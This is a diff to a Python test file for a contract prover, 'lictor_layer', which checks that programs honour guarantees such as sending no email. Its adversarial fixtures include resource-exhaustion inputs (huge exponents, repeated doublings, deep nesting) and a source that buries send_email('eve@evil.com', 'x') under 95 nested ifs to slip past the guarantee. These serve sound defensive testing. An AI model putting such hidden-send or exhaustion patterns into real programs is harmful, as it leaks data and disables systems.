@@ -63,7 +63,7 @@ def test_there_are_programs_for_every_verdict() -> None:
 HEADER = (
     "import lictor_layer\n"
     "from tools.desk.trusted import contracts as c\n"
-    "from tools.desk.trusted.effects import log, send_email\n\n\n"
+    "from tools.desk.trusted.effects import is_allowed, log, send_email\n\n\n"
     "@lictor_layer.guarantee(c.none_sent())\n"
     "def main() -> None:\n"
 )
@@ -81,10 +81,10 @@ BAD_SOURCES = {
     "a megabyte in one string": HEADER + "    log('" + "x" * 1_000_000 + "')\n",
     "a megabyte in one sum": HEADER + "    x = 1" + " + 1" * 250_000 + "\n",
     "a deep else-if ladder": HEADER
-    + "    if log('x') == 0:\n        log('a')\n"
-    + "".join(f"    elif log('x') == {n}:\n        log('b')\n" for n in range(3000)),
+    + "    if is_allowed('x'):\n        log('a')\n"
+    + "".join(f"    elif is_allowed('{n}'):\n        log('b')\n" for n in range(3000)),
     "nested ifs": HEADER
-    + "".join("    " * n + f"if log('x') == {n}:\n" for n in range(1, 95))
+    + "".join("    " * n + f"if is_allowed('{n}'):\n" for n in range(1, 95))
     + "    " * 95
     + "send_email('eve@evil.com', 'x')\n",
     "a huge number": HEADER + "    x = 9 ** 9 ** 9 ** 9\n",
@@ -100,7 +100,7 @@ BAD_SOURCES = {
     "many helpers, each calling the next twice": "".join(
         f"def h{n}():\n    h{n + 1}()\n    h{n + 1}()\n\n\n" for n in range(40)
     )
-    + HEADER.replace("import lictor_layer", "import lictor_layer")
+    + HEADER
     + "    h0()\n\n\ndef h40():\n    log('x')\n",
     "many doublings": HEADER + "    x = 'x'\n" + "    x = x + x\n" * 64 + "    log(x)\n",
     "many doublings of a list": HEADER + "    x = [0]\n" + "    x = x + x\n" * 64,
@@ -139,6 +139,13 @@ def test_prover_survives_all_of_it(layer: Layer) -> None:
         ("effects.py", "import a_module_that_is_not_there\n"),
         ("effects.py", "def broken(:\n"),
         ("contracts.py", "from lictor_layer import effect\nX = effect('nobody')\n"),
+        (
+            "all.py",
+            "from lictor_layer import contract, effect, trusted\n\n\n"
+            "@trusted\ndef act(x: int) -> None: ...\n\n\n"
+            "@contract\ndef reads_what_is_missing():\n"
+            "    return effect(act).all(lambda e: e.missing == 1)\n",
+        ),
     ],
 )
 def test_layer_that_fails_to_load_is_refused_with_a_reason(
@@ -159,11 +166,11 @@ def test_contract_that_raises_is_no_proof(tmp_path: Path) -> None:
         "@trusted\ndef act(x: int) -> None: ...\n\n\n"
         "@contract\ndef raises() -> Spec:\n    raise RuntimeError('no')\n\n\n"
         "@contract\ndef gives_nothing() -> Spec:\n    return None\n\n\n"
-        "@contract\ndef loops() -> Spec:\n    return effect(act).all(lambda e: e.missing == 1)\n",
+        "@contract\ndef gives_a_relation() -> Spec:\n    return effect(act)\n",
         "utf-8",
     )
     layer = load_layer([trusted], [tmp_path])
-    for name in ("raises", "gives_nothing", "loops"):
+    for name in ("raises", "gives_nothing", "gives_a_relation"):
         source = (
             "import lictor_layer\nfrom tools.odd.trusted import all as c\n\n\n"
             f"@lictor_layer.guarantee(c.{name}())\ndef main() -> None:\n    c.act(1)\n"
